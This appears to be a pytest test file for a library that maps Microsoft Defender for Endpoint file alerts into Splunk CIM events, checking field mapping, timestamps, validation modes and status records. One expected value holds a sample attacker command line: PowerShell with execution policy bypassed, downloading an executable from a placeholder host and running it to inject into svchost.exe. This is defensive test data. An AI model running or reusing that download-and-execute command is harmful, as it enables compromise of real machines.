"""Mapping alerts to events: CIM fields, flattened analyst fields, provenance; a pure function."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from mde_file_alerts import cim
from mde_file_alerts.account import Account
from mde_file_alerts.clouds import get_cloud
from mde_file_alerts.errors import Forbidden
from mde_file_alerts.hashes import parse_hash
from mde_file_alerts.mapping import LookupContext, account_context, events_for_outcome, map_alert, map_alerts
from mde_file_alerts.outcome import HashOutcome, HashStatus
from mde_file_alerts.validation import AlertValidator, ValidationMode, ValidationResult, parse_date_time

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
ALERT_FILES = sorted((FIXTURES / "alerts").glob("*.json"))
FILES = json.loads((FIXTURES / "defender" / "files.json").read_text(encoding="utf-8"))
DEMO_SHA1 = "6532ec91d513acc05f43ee0aa3002599729fd3e1"
DEMO_SHA256 = "43788a2067c4aa5eb5b9cc2fd6149309fca757550d94b890c393e386c49a3fc4"
RETRIEVED_AT = 1704800000.25  # 2024-01-09T11:33:20.25Z
INJECTION_DESCRIPTION = (
    "A process injected code into svchost.exe. Attackers use process injection to run code inside a "
    "trusted process and evade defenses."
)

FIELD_NAMES = {value for name, value in vars(cim).items() if name.isupper() and isinstance(value, str)}
CIM_ALERT_FIELDS = {
    cim.APP, cim.TYPE, cim.VENDOR, cim.VENDOR_PRODUCT, cim.VENDOR_ACCOUNT, cim.ID, cim.SIGNATURE,
    cim.SIGNATURE_ID, cim.SUBJECT, cim.BODY, cim.DESCRIPTION, cim.SEVERITY, cim.SEVERITY_ID, cim.SRC,
    cim.DEST, cim.USER, cim.USER_NAME, cim.MITRE_TECHNIQUE_ID, cim.FILE_HASH, cim.FILE_NAME, cim.FILE_PATH,
}  # fmt: skip


def load(relative: str) -> Any:
    return json.loads((FIXTURES / relative).read_text(encoding="utf-8"))


def context(queried_hash: str = DEMO_SHA1, **overrides: Any) -> LookupContext:
    values: dict[str, Any] = {
        "queried_hash": queried_hash,
        "account": "contoso-prod",
        "cloud": "commercial",
        "api_host": "https://api.security.microsoft.com",
        "portal_host": "https://security.microsoft.com",
        "retrieved_at": RETRIEVED_AT,
        "app_version": "0.1.0",
    }
    values.update(overrides)
    return LookupContext(**values)


def mapped(alert: Any, lookup: LookupContext | None = None) -> dict[str, Any]:
    return map_alert(alert, lookup or context(), AlertValidator().validate(alert))


def sha1_for(fixture: str) -> str:
    return next(sha1 for sha1, known in FILES.items() if fixture in known["alerts"])


# --- every realistic alert ------------------------------------------------------------------------


@pytest.mark.parametrize("path", ALERT_FILES, ids=[path.stem for path in ALERT_FILES])
def test_every_alert_maps_to_splunk_friendly_values_named_by_cim_constants(path: Path) -> None:
    alert = load(f"alerts/{path.name}")
    event = mapped(alert, context(sha1_for(path.name)))

    assert set(event) <= FIELD_NAMES
    for name, value in event.items():
        assert isinstance(value, (str, int, float, list)) and not isinstance(value, bool), name
        assert value not in ("", []), name
        if isinstance(value, list):
            assert all(isinstance(item, str) and item for item in value), name
            assert len(set(value)) == len(value), name
    assert json.loads(event[cim.RAW]) == alert
    assert event[cim.RAW] == json.dumps(alert, ensure_ascii=False, separators=(",", ":"))
    assert event[cim.TIME] == parse_date_time(alert["alertCreationTime"])
    assert event[cim.SCHEMA] == "valid"
    if alert.get("evidence") or alert.get("alertFiles"):
        assert event[cim.FILE_NAME], "every fixture's evidence names the file the alert was found for"


def test_one_alert_maps_to_exactly_these_fields() -> None:
    event = mapped(load("alerts/demo-process-injection-high.json"))
    del event[cim.RAW]

    assert event == {
        "_time": float("1704787921.8830652"),
        "source": f"mde_file_alerts://contoso-prod/api/files/{DEMO_SHA1}/alerts",
        "sourcetype": "ms:defender:atp:alerts",
        "host": "api.security.microsoft.com",
        "app": "ms:defender",
        "type": "alert",
        "vendor": "Microsoft",
        "vendor_product": "Microsoft Defender for Endpoint",
        "vendor_account": "4b2a9c61-7d3e-4f0a-9b85-2c6e1d8f7a34",
        "id": "da638412947218830652_-1893455270",
        "signature": "Process injection into a trusted system process",
        "subject": "Process injection into a trusted system process",
        "body": INJECTION_DESCRIPTION,
        "description": INJECTION_DESCRIPTION,
        "severity": "high",
        "severity_id": 4,
        "src": "ws-0142.corp.contoso.com",
        "dest": "ws-0142.corp.contoso.com",
        "user": "amy.ross",
        "user_name": "amy.ross",
        "mitre_technique_id": ["T1055", "T1055.001", "T1059.001", "T1105"],
        "file_hash": DEMO_SHA1,
        "file_name": ["winupd_helper.exe"],
        "file_path": ["C:\\Users\\amy.ross\\AppData\\Local\\Temp\\winupd_helper.exe"],
        "mde_alert_url": "https://security.microsoft.com/alerts/da638412947218830652_-1893455270"
        "?tid=4b2a9c61-7d3e-4f0a-9b85-2c6e1d8f7a34",
        "mde_status": "New",
        "mde_category": "DefenseEvasion",
        "mde_detection_source": "EDR",
        "mde_detector_id": "7f1c5d2a-8e64-4b1f-a3c9-0d5e2b6f9a17",
        "mde_investigation_id": 5187,
        "mde_investigation_state": "Running",
        "mde_incident_id": 4213,
        "mde_rbac_group_name": "Workstations - Finance",
        "mde_machine_id": "b9edaa0d8791a439bec840e1adb71ab3d74dd1b9",
        "mde_computer_dns_name": "ws-0142.corp.contoso.com",
        "mde_alert_creation_time": "2024-01-09T08:12:01.8830652Z",
        "mde_first_event_time": "2024-01-09T08:09:44.2187736Z",
        "mde_last_event_time": "2024-01-09T08:10:02.9035511Z",
        "mde_last_update_time": "2024-01-09T08:14:37.4410093Z",
        "mde_time_source": "alertCreationTime",
        "mde_related_user_domain": "CONTOSO",
        "mde_logged_on_users": ["CONTOSO\\amy.ross"],
        "mde_comment_count": 0,
        "mde_evidence_count": 6,
        "mde_evidence_entity_types": ["File", "Process", "User", "Ip", "Url"],
        "mde_evidence_file_names": ["winupd_helper.exe", "powershell.exe"],
        "mde_evidence_process_command_lines": [
            '"winupd_helper.exe" /silent /inject svchost.exe',
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "iwr '
            "https://update-cdn.contoso-files.example/winupd_helper.exe "
            "-OutFile $env:TEMP\\winupd_helper.exe; "
            '& $env:TEMP\\winupd_helper.exe /silent /inject svchost.exe"',
        ],
        "mde_evidence_ips": ["203.0.113.47"],
        "mde_evidence_urls": ["https://update-cdn.contoso-files.example/winupd_helper.exe"],
        "mde_evidence_detection_statuses": ["Detected"],
        "mde_evidence_sha1": [DEMO_SHA1, "a4c2e7d1b08f3395f61c4de2a987b0c5e3f21d46"],
        "mde_evidence_sha256": [
            DEMO_SHA256,
            "2b9f0c7e4a61d3852e07f9ab6c13d4e85f2a90b7c6d1e3f48a5b6c7d8e9f0a1b",
        ],
        "mde_evidence_users": ["CONTOSO\\amy.ross"],
        "mde_queried_hash": DEMO_SHA1,
        "mde_account": "contoso-prod",
        "mde_cloud": "commercial",
        "mde_api_host": "https://api.security.microsoft.com",
        "mde_retrieved_at": "2024-01-09T11:33:20.250000Z",
        "mde_schema": "valid",
        "mde_app_version": "0.1.0",
    }


# --- _time ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("present", "expected_source", "expected_time"),
    [
        (
            {"alertCreationTime": "2024-01-09T08:12:01.8830652Z", "firstEventTime": "2024-01-09T08:09:44Z"},
            "alertCreationTime",
            float("1704787921.8830652"),
        ),
        (
            {"alertCreationTime": None, "firstEventTime": "2024-01-09T08:09:44.2Z"},
            "firstEventTime",
            1704787784.2,
        ),
        (
            {"alertCreationTime": "yesterday", "firstEventTime": "2024-01-09T08:09:44.2Z"},
            "firstEventTime",
            1704787784.2,
        ),
        (
            {"alertCreationTime": None, "firstEventTime": None, "lastUpdateTime": "2024-01-09T08:14:37.44Z"},
            "lastUpdateTime",
            1704788077.44,
        ),
        (
            {"alertCreationTime": None, "firstEventTime": None, "lastUpdateTime": None},
            "retrieved_at",
            RETRIEVED_AT,
        ),
    ],
)
def test_time_comes_from_the_first_usable_timestamp(
    present: dict[str, Any], expected_source: str, expected_time: float
) -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    alert.update(present)

    event = mapped(alert)

    assert event[cim.TIME] == expected_time
    assert event[cim.TIME_SOURCE] == expected_source


@pytest.mark.parametrize("digits", range(8))
def test_time_keeps_every_fraction_digit(digits: int) -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    fraction = "1234567"[:digits]
    alert["alertCreationTime"] = "2024-01-09T08:12:01" + (f".{fraction}" if fraction else "") + "Z"

    assert mapped(alert)[cim.TIME] == float(f"1704787921.{fraction or 0}")


# --- CIM fields -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("severity", "cim_severity", "severity_id"),
    [
        ("UnSpecified", "unknown", 0),
        ("Informational", "informational", 1),
        ("Low", "low", 2),
        ("Medium", "medium", 3),
        ("High", "high", 4),
        ("Critical", "critical", None),  # drift: lower-cased like the add-on, no id invented
    ],
)
def test_severity_is_lower_case_cim_with_an_ocsf_id(
    severity: str, cim_severity: str, severity_id: int | None
) -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    alert["severity"] = severity

    event = mapped(alert)

    assert event[cim.SEVERITY] == cim_severity
    assert event.get(cim.SEVERITY_ID) == severity_id


def test_the_device_is_src_and_dest_falling_back_to_the_machine_id_never_the_tenant() -> None:
    alert = load("alerts/linux-null-category-unspecified.json")
    assert alert["computerDnsName"] is None

    event = mapped(alert, context(sha1_for("linux-null-category-unspecified.json")))

    assert event[cim.SRC] == event[cim.DEST] == alert["machineId"]
    assert event[cim.VENDOR_ACCOUNT] == alert["aadTenantId"]
    assert cim.COMPUTER_DNS_NAME not in event


def test_signature_id_is_the_threat_name_else_the_family() -> None:
    alert = load("alerts/legacy-2018-malware.json")
    assert "threatName" not in alert

    assert mapped(alert)[cim.SIGNATURE_ID] == "Emulock"
    alert["threatName"] = "Ransom:Win32/Emulock.A"
    assert mapped(alert)[cim.SIGNATURE_ID] == "Ransom:Win32/Emulock.A"


@pytest.mark.parametrize(
    ("related_user", "legacy_user", "user", "domain"),
    [
        ({"userName": "amy.ross", "domainName": "CONTOSO"}, None, "amy.ross", "CONTOSO"),
        ({"userName": "amy.ross", "domainName": None}, None, "amy.ross", None),
        (None, None, None, None),
        ("amy.ross", None, "amy.ross", None),  # the documented string form
        (None, {"accountName": "p.nowak", "domainName": "CONTOSO"}, "p.nowak", "CONTOSO"),  # 2017-2019
    ],
)
def test_user_comes_from_related_user_or_the_old_alert_user(
    related_user: Any, legacy_user: Any, user: str | None, domain: str | None
) -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    alert["relatedUser"] = related_user
    if legacy_user is not None:
        alert["alertUser"] = legacy_user

    event = mapped(alert)

    assert (event.get(cim.USER), event.get(cim.USER_NAME), event.get(cim.RELATED_USER_DOMAIN)) == (
        user,
        user,
        domain,
    )


@pytest.mark.parametrize(
    ("techniques", "expected"),
    [
        (["T1055", "T1055.001", "T1055", None, ""], ["T1055", "T1055.001"]),
        ([], None),
        (None, None),
        ("T1059.001, T1105", ["T1059.001", "T1105"]),  # the documented string form
    ],
)
def test_mitre_techniques_are_a_deduplicated_multivalue(techniques: Any, expected: list[str] | None) -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    alert["mitreTechniques"] = techniques

    assert mapped(alert).get(cim.MITRE_TECHNIQUE_ID) == expected


def test_the_portal_link_follows_the_cloud_and_names_the_tenant() -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")
    alert["id"] = "ar/1 2"
    gcc_high = get_cloud("gcc_high")

    event = mapped(
        alert, context(cloud="gcc_high", api_host=gcc_high.api_host, portal_host=gcc_high.portal_host)
    )

    assert event[cim.ALERT_URL] == (
        "https://security.microsoft.us/alerts/ar%2F1%202?tid=4b2a9c61-7d3e-4f0a-9b85-2c6e1d8f7a34"
    )
    assert event[cim.HOST] == "api-gov.securitycenter.microsoft.us"


def test_analyst_fields_of_a_resolved_alert_with_comments() -> None:
    event = mapped(
        load("alerts/rtool-admin-false-positive.json"), context(sha1_for("rtool-admin-false-positive.json"))
    )

    assert event[cim.STATUS] == "Resolved"
    assert event[cim.CLASSIFICATION] == "FalsePositive"
    assert event[cim.DETERMINATION] == "NotMalicious"
    assert event[cim.SIGNATURE_ID] == event[cim.THREAT_NAME] == "HackTool:Win32/RemoteAdmin"
    assert event[cim.COMMENT_COUNT] == 1
    assert event[cim.RESOLVED_TIME]
    assert event[cim.LOGGED_ON_USERS] == ["CONTOSO\\adm-lchen"]


def test_logged_on_users_and_evidence_users_are_domain_qualified_and_unique() -> None:
    alert = load("alerts/demo-informational-no-evidence.json")
    alert["loggedOnUsers"].append({"accountName": "d.okafor", "domainName": "CONTOSO"})
    alert["loggedOnUsers"].append({"accountName": "local-admin", "domainName": None})
    alert["evidence"] = [
        {
            "entityType": "User",
            "accountName": "d.okafor",
            "domainName": "CONTOSO",
            "userPrincipalName": "d@c.com",
        },
        {
            "entityType": "User",
            "accountName": None,
            "domainName": None,
            "userPrincipalName": "guest@fabrikam.com",
        },
        {"entityType": "Process", "accountName": "SYSTEM", "domainName": "NT AUTHORITY"},
    ]

    event = mapped(alert)

    assert event[cim.LOGGED_ON_USERS] == ["CONTOSO\\d.okafor", "CONTOSO\\svc-backup", "local-admin"]
    assert event[cim.EVIDENCE_USERS] == ["CONTOSO\\d.okafor", "guest@fabrikam.com", "NT AUTHORITY\\SYSTEM"]


# --- the queried file -----------------------------------------------------------------------------


def test_file_fields_come_from_the_evidence_of_the_queried_file_only() -> None:
    alert = load("alerts/jp-invoice-chain-high.json")
    dropper, payload = "84abd80a4572c04c3a8a44ec5da93a3988a63fac", DEMO_SHA1

    for_dropper = mapped(alert, context(dropper.upper()))
    for_payload = mapped(alert, context(payload))

    assert for_dropper[cim.FILE_HASH] == dropper
    assert for_dropper[cim.FILE_NAME] == ["請求書_2024年3月.exe"]
    assert for_payload[cim.FILE_NAME] == ["winupd_helper.exe"]
    assert for_dropper[cim.FILE_PATH] != for_payload[cim.FILE_PATH]
    assert set(for_dropper[cim.EVIDENCE_FILE_NAMES]) >= {"請求書_2024年3月.exe", "winupd_helper.exe"}


def test_file_fields_are_absent_when_no_evidence_is_the_queried_file() -> None:
    event = mapped(load("alerts/demo-informational-no-evidence.json"))

    assert cim.FILE_NAME not in event and cim.FILE_PATH not in event
    assert event[cim.FILE_HASH] == DEMO_SHA1
    assert event[cim.EVIDENCE_COUNT] == 0


def test_a_hash_resolved_from_sha256_also_matches_evidence_by_sha256() -> None:
    alert = load("alerts/demo-process-injection-high.json")
    for item in alert["evidence"]:
        if item["sha1"] == DEMO_SHA1:
            item["sha1"] = None  # Defender sometimes has only one of the hashes

    event = mapped(alert, context(DEMO_SHA1, sha256=DEMO_SHA256.upper()))

    assert event[cim.FILE_NAME] == ["winupd_helper.exe"]
    assert event[cim.QUERIED_SHA256] == DEMO_SHA256


def test_old_payloads_name_the_file_from_alert_files() -> None:
    event = mapped(
        load("alerts/legacy-2018-malware.json"), context("5f097cdaa6d60b0b4311b975f8afd99923caaaa1")
    )

    assert event[cim.FILE_NAME] == ["svch0st.exe"]
    assert event[cim.FILE_PATH] == ["C:\\Users\\p.nowak\\AppData\\Roaming\\svch0st.exe"]


@pytest.mark.parametrize(
    ("directory", "name", "expected"),
    [
        ("C:\\Windows\\Temp\\", "a.exe", "C:\\Windows\\Temp\\a.exe"),
        ("C:\\Windows\\Temp", "a.exe", "C:\\Windows\\Temp\\a.exe"),
        ("/usr/lib/.cache", "kworkerd", "/usr/lib/.cache/kworkerd"),
        ("/tmp/", "kworkerd", "/tmp/kworkerd"),
        ("C:\\Windows\\Temp", None, "C:\\Windows\\Temp"),
        (None, "a.exe", None),
    ],
)
def test_file_path_is_the_whole_path(directory: str | None, name: str | None, expected: str | None) -> None:
    alert = load("alerts/demo-informational-no-evidence.json")
    alert["evidence"] = [{"entityType": "File", "sha1": DEMO_SHA1, "fileName": name, "filePath": directory}]

    assert mapped(alert).get(cim.FILE_PATH) == ([expected] if expected else None)


# --- nulls, drift, odd data -----------------------------------------------------------------------


def test_nulls_everywhere_leave_fields_out_instead_of_inventing_values() -> None:
    alert = load("alerts/demo-process-injection-high.json")
    for key in list(alert):
        if key not in ("id", "title", "severity", "status", "machineId", "alertCreationTime", "evidence"):
            alert[key] = None
    alert["evidence"] = [{key: None for key in alert["evidence"][0]} | {"entityType": "File"}]

    event = mapped(alert)

    assert event[cim.SCHEMA] == "invalid"  # e.g. aadTenantId and mitreTechniques may not be null
    assert event[cim.EVIDENCE_ENTITY_TYPES] == ["File"]
    for absent in (
        cim.USER,
        cim.BODY,
        cim.VENDOR_ACCOUNT,
        cim.MITRE_TECHNIQUE_ID,
        cim.SIGNATURE_ID,
        cim.FILE_NAME,
    ):
        assert absent not in event
    assert event[cim.ALERT_URL] == "https://security.microsoft.com/alerts/da638412947218830652_-1893455270"
    assert event[cim.COMMENT_COUNT] == 0


def test_unknown_keys_and_schema_problems_travel_with_the_event() -> None:
    alert = load("invalid/wrong-types.json")
    alert["alertPolicyId"] = "p-7"

    event = mapped(alert)

    assert event[cim.SCHEMA] == "invalid"
    assert "evidence[2].sha1: 123 is not of type 'string', 'null'" in event[cim.SCHEMA_ERRORS]
    assert event[cim.UNKNOWN_KEYS] == ["alertPolicyId"]
    assert event[cim.INCIDENT_ID] == "4213"
    assert event[cim.MITRE_TECHNIQUE_ID] == ["T1059.001", "T1105"]
    assert event[cim.EVIDENCE_SHA1] == [DEMO_SHA1, "123"]


def test_non_ascii_and_zero_width_text_is_kept_as_is() -> None:
    alert = load("alerts/de-macro-document-medium.json")
    alert["description"] = "Gehaltsübersicht\u200b_März: Makro\nzweite Zeile"

    event = mapped(alert, context("583e09022c9e9d2ddd35ff99d457c479972eae35"))

    assert event[cim.DESCRIPTION] == "Gehaltsübersicht\u200b_März: Makro\nzweite Zeile"
    assert "Gehaltsübersicht\u200b_März" in event[cim.RAW]
    assert "\\u" not in event[cim.RAW]
    assert event[cim.FILE_NAME] == ["Gehaltsübersicht_März.xlsm"]


def test_mapping_is_pure() -> None:
    alert = load("alerts/rtool-lateral-movement-high.json")
    untouched = copy.deepcopy(alert)
    validation = AlertValidator().validate(alert)

    first = map_alert(alert, context(), validation)
    second = map_alert(alert, context(), validation)

    assert first == second
    assert alert == untouched
    first[cim.EVIDENCE_IPS].append("x")
    assert map_alert(alert, context(), validation) == second


# --- things that are not alerts -------------------------------------------------------------------


@pytest.mark.parametrize("fixture", ["invalid/m365-incidents-api-alert.json", "invalid/graph-alerts-v2.json"])
def test_a_non_alert_is_never_half_mapped(fixture: str) -> None:
    value = load(fixture)

    event = mapped(value)

    assert not set(event) & CIM_ALERT_FIELDS
    assert not any(name.startswith("mde_evidence") for name in event)
    assert event[cim.SOURCETYPE] == cim.SOURCETYPE_NOT_AN_ALERT
    assert event[cim.TIME] == RETRIEVED_AT
    assert event[cim.SCHEMA] == "invalid"
    assert event[cim.SCHEMA_ERRORS][0].startswith("Not a Defender for Endpoint alert")
    assert json.loads(event[cim.RAW]) == value
    assert event[cim.QUERIED_HASH] == DEMO_SHA1


# --- many alerts ----------------------------------------------------------------------------------


def response() -> list[Any]:
    return [
        load("alerts/demo-process-injection-high.json"),
        load("invalid/wrong-types.json"),
        load("invalid/graph-alerts-v2.json"),
        "not an object",
        load("alerts/demo-c2-beacon-medium.json"),
    ]


def test_warn_emits_everything_in_order_and_says_what_is_wrong() -> None:
    result = map_alerts(response(), context(), AlertValidator(ValidationMode.WARN))

    assert [event[cim.SCHEMA] for event in result.events] == [
        "valid",
        "invalid",
        "invalid",
        "invalid",
        "valid",
    ]
    assert [event[cim.SOURCETYPE] for event in result.events] == [
        cim.SOURCETYPE_ALERT,
        cim.SOURCETYPE_ALERT,
        cim.SOURCETYPE_NOT_AN_ALERT,
        cim.SOURCETYPE_NOT_AN_ALERT,
        cim.SOURCETYPE_ALERT,
    ]
    assert result.events[3][cim.RAW] == '"not an object"'
    assert result.rejected == []


def test_strict_leaves_invalid_alerts_and_non_alerts_out_but_counts_them() -> None:
    result = map_alerts(response(), context(), AlertValidator(ValidationMode.STRICT))

    assert [event[cim.ID] for event in result.events] == [
        "da638412947218830652_-1893455270",
        "da638413011456210987_1175064329",
    ]
    assert len(result.rejected) == 3
    assert [rejected.is_alert for rejected in result.rejected] == [True, False, False]


def test_off_maps_real_alerts_unchecked_but_still_recognises_non_alerts() -> None:
    result = map_alerts(response(), context(), AlertValidator(ValidationMode.OFF))

    assert [event[cim.SCHEMA] for event in result.events] == [
        "skipped",
        "skipped",
        "invalid",
        "invalid",
        "skipped",
    ]
    assert cim.SCHEMA_ERRORS not in result.events[1]


# --- one hash's outcome: what every front end emits -----------------------------------------------


def outcome(status: HashStatus, alerts: list[Any], **values: Any) -> HashOutcome:
    return HashOutcome(
        query=parse_hash(values.pop("query", DEMO_SHA1)), status=status, alerts=alerts, **values
    )


def test_a_found_hash_gives_its_events_and_a_status_record() -> None:
    alerts = [load("alerts/demo-process-injection-high.json"), load("alerts/demo-c2-beacon-medium.json")]
    found = outcome(
        HashStatus.FOUND, alerts, sha1=DEMO_SHA1, correlation_id="c0ffee00-1111-2222-3333-444455556666"
    )

    report = events_for_outcome(found, context(queried_hash=""), AlertValidator())

    assert report.events == map_alerts(alerts, context(), AlertValidator()).events
    assert report.status == {
        "mde_status_for": DEMO_SHA1,
        "status": "found",
        "message": f"2 Defender alerts for file {DEMO_SHA1}.",
        "mde_sha1": DEMO_SHA1,
        "mde_alert_count": 2,
        "mde_rejected_count": 0,
        "mde_correlation_id": "c0ffee00-1111-2222-3333-444455556666",
        "mde_account": "contoso-prod",
        "mde_retrieved_at": "2024-01-09T11:33:20.250000Z",
    }
    assert report.message == f"2 Defender alerts for file {DEMO_SHA1}."


def test_the_status_record_never_hides_invalid_or_left_out_alerts() -> None:
    alerts = [load("alerts/demo-c2-beacon-medium.json"), load("invalid/wrong-types.json")]
    found = outcome(HashStatus.FOUND, alerts, sha1=DEMO_SHA1)

    warned = events_for_outcome(found, context(), AlertValidator(ValidationMode.WARN))
    strict = events_for_outcome(found, context(), AlertValidator(ValidationMode.STRICT))

    assert warned.message == (
        f"2 Defender alerts for file {DEMO_SHA1}. 1 of them failed schema validation (see mde_schema_errors)."
    )
    assert len(strict.events) == 1
    assert strict.status[cim.STATUS_REJECTED_COUNT] == 1
    assert strict.message.startswith(
        f"2 Defender alerts for file {DEMO_SHA1}. 1 was left out by validate=strict; first problem: "
    )


def test_a_hash_resolved_from_sha256_is_queried_and_matched_by_both() -> None:
    found = outcome(
        HashStatus.FOUND,
        [load("alerts/demo-c2-beacon-medium.json")],
        query=DEMO_SHA256,
        sha1=DEMO_SHA1,
        sha256=DEMO_SHA256,
    )

    report = events_for_outcome(found, context(queried_hash=""), AlertValidator())

    (event,) = report.events
    assert event[cim.QUERIED_HASH] == event[cim.FILE_HASH] == DEMO_SHA1
    assert event[cim.QUERIED_SHA256] == DEMO_SHA256
    assert report.status[cim.STATUS_FOR] == DEMO_SHA256
    assert report.status[cim.STATUS_SHA256] == DEMO_SHA256


@pytest.mark.parametrize(
    ("status", "query", "error"),
    [
        (HashStatus.NOT_FOUND, "32f220fcfff4fe90b95b9ada3cd0148d673cf1b0", None),
        (HashStatus.INVALID_HASH, "d41d8cd98f00b204e9800998ecf8427e", None),
        (HashStatus.ERROR, DEMO_SHA1, Forbidden(status=403, code="Forbidden")),
    ],
)
def test_other_outcomes_give_no_events_and_the_outcome_s_own_sentence(
    status: HashStatus, query: str, error: Exception | None
) -> None:
    other = outcome(
        status, [], query=query, error=error, sha1=query if status is HashStatus.NOT_FOUND else None
    )

    report = events_for_outcome(other, context(queried_hash=""), AlertValidator())

    assert report.events == [] and report.rejected == []
    assert report.status[cim.STATUS_VALUE] == status.value
    assert report.status[cim.STATUS_MESSAGE] == other.message
    assert report.status[cim.STATUS_FOR] == query


def test_the_account_part_of_the_context_comes_from_the_account() -> None:
    account = Account(
        name="contoso-gov",
        tenant_id="4b2a9c61-7d3e-4f0a-9b85-2c6e1d8f7a34",
        client_id="0d6f3a52-9b1e-4c77-8a20-5e4b3c2d1f00",
        cloud="gcc_high",
    )

    lookup = account_context(account, retrieved_at=RETRIEVED_AT, app_version="9.9.9")

    assert lookup == LookupContext(
        queried_hash="",
        account="contoso-gov",
        cloud="gcc_high",
        api_host="https://api-gov.securitycenter.microsoft.us",
        portal_host="https://security.microsoft.us",
        retrieved_at=RETRIEVED_AT,
        app_version="9.9.9",
    )


def test_a_validation_result_that_says_not_an_alert_wins_over_the_value() -> None:
    alert = load("alerts/demo-c2-beacon-medium.json")

    event = map_alert(
        alert, context(), ValidationResult("invalid", ("Not a Defender alert.",), is_alert=False)
    )

    assert not set(event) & CIM_ALERT_FIELDS
